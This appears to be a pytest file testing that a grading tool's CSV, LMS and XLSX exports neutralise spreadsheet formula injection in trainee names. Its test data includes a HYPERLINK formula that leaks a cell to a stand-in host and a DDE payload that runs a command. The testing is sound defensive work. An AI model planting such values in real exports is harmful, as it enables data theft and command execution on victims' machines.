"""No cell an export writes can run as a formula, whatever a trainee calls themselves."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from test_grade_support import grade, make_logs

from simulator.cli import main

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
)
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def gradebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("injection")
    make_logs(where / "logs", HOSTILE, range(1))
    assert grade(where / "logs", db=where / "g.db") == 0
    return where / "g.db"


@pytest.mark.parametrize("form", ["csv", "moodle", "canvas"])
def test_no_csv_cell_starts_a_formula(form: str, gradebook: Path, tmp_path: Path) -> None:
    out = tmp_path / f"{form}.csv"
    args = ["--all"] if form == "csv" else []
    assert main(["export", "--db", str(gradebook), "--format", form, "--out", str(out), *args]) == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"))) for c in row]
    assert cells and not [c for c in cells if c.startswith(STARTS)]
    # The names are still there, readable, behind the quote.
    assert any(c == "'" + HOSTILE[0] for c in cells)


def test_no_xlsx_cell_is_a_formula(gradebook: Path, tmp_path: Path) -> None:
    out = tmp_path / "grades.xlsx"
    assert main(["export", "--db", str(gradebook), "--format", "xlsx", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    from openpyxl import load_workbook

    values = [c.value for ws in load_workbook(out) for row in ws.iter_rows() for c in row]
    assert HOSTILE[0] in values  # kept as the text it is
